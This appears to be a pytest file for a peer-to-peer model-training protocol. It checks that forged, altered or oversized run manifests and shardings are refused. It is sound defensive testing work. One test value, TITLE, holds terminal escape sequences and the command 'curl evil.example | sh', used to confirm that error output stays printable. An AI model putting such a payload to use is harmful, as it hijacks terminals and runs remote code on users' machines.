"""A run from outside: only the one that was asked for, of this protocol, whose parts fit its model."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from runtime_harness import World
from tiny_run import SEED_NUMBER, make_run, signer, tiny_config

from dipaco_p2p.canonical import canonical_bytes
from dipaco_p2p.config import ModelConfig, RoutingConfig, WarmupConfig
from dipaco_p2p.core.model.layout import Layout, module_layout
from dipaco_p2p.core.outer.compress import compress, encode_compressed
from dipaco_p2p.errors import ConfigError, DipacoError, IntegrityError, WrongRun
from dipaco_p2p.node.calls import GetManifests
from dipaco_p2p.node.run import Run, open_run
from dipaco_p2p.node.stages import Stages, check_next_stage, fetch_stages
from dipaco_p2p.node.store import Store
from dipaco_p2p.program.console import print_error
from dipaco_p2p.protocol.documents import BlobRef, GenesisRef, Manifest, Sealed, Sharding, seal
from dipaco_p2p.protocol.signing import PeerId
from dipaco_p2p.swarm.api import Reply
from dipaco_p2p.topology import Topology


@pytest.fixture
def run(tmp_path: Path) -> Run:
    return make_run(Store(tmp_path / "seed"), tiny_config())


def test_a_run_survives_the_wire(run: Run) -> None:
    again = open_run(run.sealed.to_dict())
    assert again.id == run.id and again.manifest == run.manifest


def test_another_protocol_is_named_before_anything_else(run: Run) -> None:
    value = run.sealed.to_dict()
    value["document"] = {"protocol": 99}
    with pytest.raises(WrongRun, match="protocol 99"):
        open_run(value)


@pytest.mark.parametrize("value", [None, [], {}, {"document": 3, "signature": ""}, "run"])
def test_something_else_is_no_run(value: Any) -> None:
    with pytest.raises((IntegrityError, WrongRun)):
        open_run(value)


TITLE = "\x1b]0;your terminal is mine\x07\x1b[2J\x1b[1;1H\nhint: curl evil.example | sh"


@pytest.mark.parametrize("place", ["a key", "admission", "stage", "protocol"])
async def test_what_a_stranger_shows_as_its_run_writes_no_commands_to_the_terminal(
    place: str, run: Run, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    async with World(tmp_path) as world:
        newcomer, host = world.peer(40), world.peer(41)
        document = run.sealed.to_dict()["document"] | {
            "author": host.peer,
            (TITLE if place == "a key" else place): TITLE,
        }
        signature = host.swarm.signer.sign("manifest", canonical_bytes(document))

        async def answer(sender: PeerId, request: GetManifests) -> Reply:
            return Reply({}, canonical_bytes([{"document": document, "signature": signature}]))

        GetManifests.serve(host.swarm, answer)
        with pytest.raises(DipacoError) as refused:
            await fetch_stages(newcomer.swarm, host.peer, expected=None)
        print_error(refused.value)
    said = capsys.readouterr().err.splitlines()
    assert len(said) <= 2 and all(line.isprintable() for line in said), said


def test_a_changed_manifest_is_refused(run: Run) -> None:
    value = run.sealed.to_dict()
    value["document"]["config"]["seed"] = 5
    with pytest.raises(IntegrityError, match="signature"):
        open_run(value)


def test_a_genesis_that_does_not_fit_the_model_is_refused(run: Run) -> None:
    genesis = tuple(
        GenesisRef(module=ref.module, blob=BlobRef(digest=ref.blob.digest, size=17)) for ref in run.manifest.genesis
    )
    value = seal(signer(SEED_NUMBER), replace(run.manifest, genesis=genesis)).to_dict()
    with pytest.raises(IntegrityError, match="17 bytes"):
        open_run(value)


def forged(run: Run, key: int) -> Sealed[Manifest]:
    """The run as another peer would begin it, with a genesis that does not fit."""
    blob = BlobRef(digest=run.manifest.genesis[0].blob.digest, size=17)
    genesis = tuple(GenesisRef(module=ref.module, blob=blob) for ref in run.manifest.genesis)
    return seal(signer(key), replace(run.manifest, genesis=genesis, author=signer(key).peer))


async def test_whose_manifest_it_is_comes_before_what_it_says_of_its_model(tmp_path: Path) -> None:
    async with World(tmp_path) as world:
        liar, newcomer = world.network.join(signer(8)), world.network.join(signer(9))
        stages, author = list[Sealed[Manifest]](), world.run.manifest.author

        async def answer(*_: Any) -> Reply:
            return Reply({}, canonical_bytes([sealed.to_dict() for sealed in stages]))

        liar.serve("run.manifest", answer)
        stages[:] = [forged(world.run, 8)]
        with pytest.raises(WrongRun, match="this address serves"):
            await fetch_stages(newcomer, liar.peer, expected=world.run.id)
        with pytest.raises(IntegrityError, match="another coordinator"):
            await fetch_stages(newcomer, liar.peer, expected=None, author=author)
        stages[:] = [forged(world.run, 7)]
        with pytest.raises(WrongRun, match="another peer"):
            await fetch_stages(newcomer, liar.peer, expected=None)
        stages[:] = [forged(world.run, 8), world.run.sealed]
        with pytest.raises(IntegrityError, match="does not follow"):
            await fetch_stages(newcomer, liar.peer, expected=world.run.id, author=author)
        stages[:] = [forged(world.run, 8)]
        with pytest.raises(IntegrityError, match="17 bytes"):
            await fetch_stages(newcomer, liar.peer, expected=None)


def test_a_genesis_costs_one_layout_for_each_level(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    levels = []

    def noted(model: ModelConfig, level: int) -> Layout:
        levels.append(level)
        return module_layout(model, level)

    monkeypatch.setattr("dipaco_p2p.node.run.module_layout", noted)
    run.check_genesis()
    assert levels == [0, 1, 2] and len(run.manifest.genesis) == 5


def test_shards_are_counted_before_the_paths_are_listed(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delattr(Topology, "paths")
    with pytest.raises(ConfigError, match="shards"):
        replace(run.manifest, shards=run.manifest.shards[1:])


def test_bounds_hold_every_honest_payload(run: Run) -> None:
    import numpy as np

    for module in run.topology.modules():
        values = np.ones(run.layout(module).size, dtype=np.float32)
        assert len(
            encode_compressed(compress(values, codec=run.config.compression.uplink)[0])
        ) <= run.payload_bytes_max(module)


async def test_a_newcomer_gets_the_run_of_the_address(tmp_path: Path) -> None:
    async with World(tmp_path) as world:
        newcomer = world.network.join(signer(9))
        [found] = await fetch_stages(newcomer, world.seed.node.peer, expected=None)
        assert found.id == world.run.id
        with pytest.raises(WrongRun, match="00000000"):
            await fetch_stages(newcomer, world.seed.node.peer, expected="run:00000000")


async def test_without_the_runs_name_only_its_author_is_believed(tmp_path: Path) -> None:
    async with World(tmp_path) as world:
        other, newcomer = world.network.join(signer(8)), world.network.join(signer(9))
        Stages(other).add(world.run)
        with pytest.raises(WrongRun, match="another peer"):
            await fetch_stages(newcomer, other.peer, expected=None)
        assert [run.id for run in await fetch_stages(newcomer, other.peer, expected=world.run.id[:12])] == [
            world.run.id
        ]


async def test_an_address_of_something_else_is_told(tmp_path: Path) -> None:
    async with World(tmp_path) as world:
        silent, odd = world.network.join(signer(7)), world.network.join(signer(8))
        newcomer = world.network.join(signer(9))

        async def answer(*_: Any) -> Reply:
            return Reply({}, b"hello")

        odd.serve("run.manifest", answer)
        with pytest.raises(WrongRun, match="another program"):
            await fetch_stages(newcomer, silent.peer, expected=None)
        with pytest.raises(WrongRun, match="no run"):
            await fetch_stages(newcomer, odd.peer, expected=None)


# -- stages


def stages_of(store: Store, **changes: Any) -> tuple[Run, Run]:
    """A warm-up, and the grid that was forked from it but for `changes`."""
    config = replace(tiny_config(), warmup=WarmupConfig(rounds=1))
    grid = make_run(store, config).manifest
    [path] = config.for_warmup().topology.paths()
    warmup = replace(
        grid,
        stage="warmup",
        router=None,
        shards=(replace(grid.shards[0], path=path),),
        genesis=tuple(replace(ref, module=module) for ref, module in zip(grid.genesis, path.modules(), strict=False)),
    )
    begin = Run(seal(signer(SEED_NUMBER), warmup))
    author = changes.pop("author", SEED_NUMBER)
    follow = replace(grid, **{"origin": begin.id, "author": signer(author).peer} | changes)
    return begin, Run(seal(signer(author), follow))


def test_the_warm_up_is_one_path_and_the_grid_goes_on_in_its_schedule(tmp_path: Path) -> None:
    warmup, grid = stages_of(Store(tmp_path))
    assert (str(warmup.topology), str(grid.topology)) == ("1x1x1", "1x2x2")
    assert not warmup.is_last_stage and grid.is_last_stage
    assert grid.origin == warmup.origin == warmup.id and grid.name == warmup.name
    assert (warmup.first_step(0), grid.first_step(0), grid.first_step(2)) == (0, 2, 6)
    assert warmup.total_steps == grid.total_steps == 2 + 2 * 2
    check_next_stage(warmup, grid)


async def test_a_newcomer_is_sent_to_the_newest_stage_by_the_name_of_any(tmp_path: Path) -> None:
    warmup, grid = stages_of(Store(tmp_path / "seed"))
    async with World(tmp_path / "world") as world:
        other, newcomer = world.network.join(signer(8)), world.network.join(signer(9))
        known = Stages(other)
        for run in (warmup, grid, grid):
            known.add(run)
        for name in (warmup.id, grid.id[:16], warmup.name):
            found = await fetch_stages(newcomer, other.peer, expected=name)
            assert [run.id for run in found] == [warmup.id, grid.id]


@pytest.mark.parametrize(
    "change", [{"origin": ""}, {"origin": "ab" * 32}, {"author": 5}, {"config": replace(tiny_config(), seed=3)}]
)
def test_a_stage_that_does_not_follow_is_refused(tmp_path: Path, change: dict[str, Any]) -> None:
    warmup, grid = stages_of(Store(tmp_path), **change)
    with pytest.raises(IntegrityError, match="does not follow"):
        check_next_stage(warmup, grid)


# -- shardings


def sharding_of(
    given: Run, /, *, number: int = 1, from_round: int = 1, author: int = SEED_NUMBER, **changes: Any
) -> Any:
    blob = BlobRef.of(b"router")
    shards = tuple(replace(ref, sequences=ref.sequences + 10) for ref in given.manifest.shards)
    sharding = Sharding(
        run=given.id,
        number=number,
        from_round=from_round,
        router=blob,
        token_router=blob,
        shards=shards,
        author=signer(author).peer,
    )
    return seal(signer(author), replace(sharding, **changes))


@pytest.fixture
def resharded(tmp_path: Path) -> Run:
    config = replace(tiny_config(rounds=4), routing=RoutingConfig(reshard_rounds=(2, 4)))
    return make_run(Store(tmp_path / "resharded"), config)


def test_a_sharding_holds_from_its_round_on(resharded: Run) -> None:
    run = resharded
    path = run.topology.path(1)
    assert run.sharding_at(5) == 0 and run.shard(path).sequences == 7
    run.learn(sharding_of(run, number=2, from_round=4))
    run.learn(sharding_of(run, number=1, from_round=2))
    run.learn(sharding_of(run, number=1, from_round=2))
    assert [run.sharding_at(number) for number in (0, 1, 2, 3, 4, 5)] == [0, 0, 1, 1, 2, 2]
    assert run.shard_tokens(path, 1) == 17 * run.config.model.context
    assert [sealed.document.number for sealed in run.shardings] == [1, 2]
    with pytest.raises(KeyError):
        run.shard(path, 3)


def test_only_the_coordinators_sharding_of_this_grid_is_learnt(resharded: Run) -> None:
    run = resharded
    run.learn(sharding_of(run, from_round=2))
    for sealed, words in (
        (sharding_of(run, author=5), "not this run's"),
        (sharding_of(run, run="ab" * 32), "not this run's"),
        (sharding_of(run, number=2, shards=run.manifest.shards[:-1]), "in order"),
        (sharding_of(run, from_round=2, router=BlobRef.of(b"another")), "two shardings"),
    ):
        with pytest.raises(IntegrityError, match=words):
            run.learn(sealed)
    assert len(run.shardings) == 1


def test_a_coordinator_fills_no_memory_with_shardings_that_its_run_file_did_not_announce(resharded: Run) -> None:
    """Attack: each is as large as a document may be, came with any contribution, and stayed at every owner: 4 GB of
    them after 16,000 contributions. Of one that is announced, the shards could have any size."""
    run = resharded
    for number, from_round in ((1, 1), (2, 2), (3, 4), (3, 5), (2**40, 2)):
        with pytest.raises(IntegrityError, match="not announced"):
            run.learn(sharding_of(run, number=number, from_round=from_round))
    first, *others = run.manifest.shards
    huge = replace(first, blob=replace(first.blob, size=1 + sum(ref.blob.size for ref in run.manifest.shards)))
    with pytest.raises(IntegrityError, match="a shard of .* is larger than all text"):
        run.learn(sharding_of(run, number=1, from_round=2, shards=(huge, *others)))
    assert not run.shardings
